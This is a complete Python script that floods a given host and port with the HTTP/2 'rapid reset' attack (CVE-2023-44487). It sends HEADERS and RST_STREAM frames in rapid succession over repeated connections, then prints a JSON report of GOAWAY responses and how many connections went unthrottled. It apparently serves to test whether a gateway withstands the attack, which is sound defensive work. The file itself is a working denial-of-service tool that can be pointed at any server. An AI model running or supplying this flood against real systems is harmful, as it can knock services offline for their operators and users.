"""HTTP/2 "rapid reset" (CVE-2023-44487) against the gateway: on a connection, send
HEADERS and at once RST_STREAM for stream after stream, as fast as the socket takes them,
for N streams or until the gateway ends the connection; then connect again, for SECONDS.
Prints a JSON report: {"connections": n, "sent": streams sent in all, "goaways": {code
name: count}, "not_sent_away": connections that reached N streams}.

usage: rapid_reset.py HOST:PORT N SECONDS
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    n, seconds = int(sys.argv[2]), float(sys.argv[3])
    report = {"connections": 0, "sent": 0, "goaways": {}, "not_sent_away": 0}
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        sent, goaway, closed = flood(host, int(port), n)
        report["connections"] += 1
        report["sent"] += sent
        if goaway is not None:
            report["goaways"][goaway] = report["goaways"].get(goaway, 0) + 1
        if sent >= n:
            report["not_sent_away"] += 1
    print(json.dumps(report))


def flood(host, port, n):
    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    headers = [(":method", "GET"), (":path", "/flood"), (":scheme", "http"), (":authority", "flood.test")]
    sent, goaway, closed = 0, None, False
    try:
        while sent < n and goaway is None and not closed:
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid)
                sent += 1
            out = conn.data_to_send()
            while out:
                try:
                    k = sock.send(out)
                    out = out[k:]
                except BlockingIOError:
                    time.sleep(0.001)
                    goaway, closed = read(conn, sock, goaway, closed)
                    if goaway is not None or closed:
                        break
            goaway, closed = read(conn, sock, goaway, closed)
    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
        closed = True
    sock.close()
    return sent, goaway, closed


def read(conn, sock, goaway, closed):
    while True:
        try:
            data = sock.recv(65536)
        except BlockingIOError:
            return goaway, closed
        except (ConnectionResetError, BrokenPipeError):
            return goaway, True
        if not data:
            return goaway, True
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return goaway, True
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                goaway = getattr(e.error_code, "name", str(e.error_code))
        conn.data_to_send()  # acknowledgements are not needed for the flood


if __name__ == "__main__":
    main()
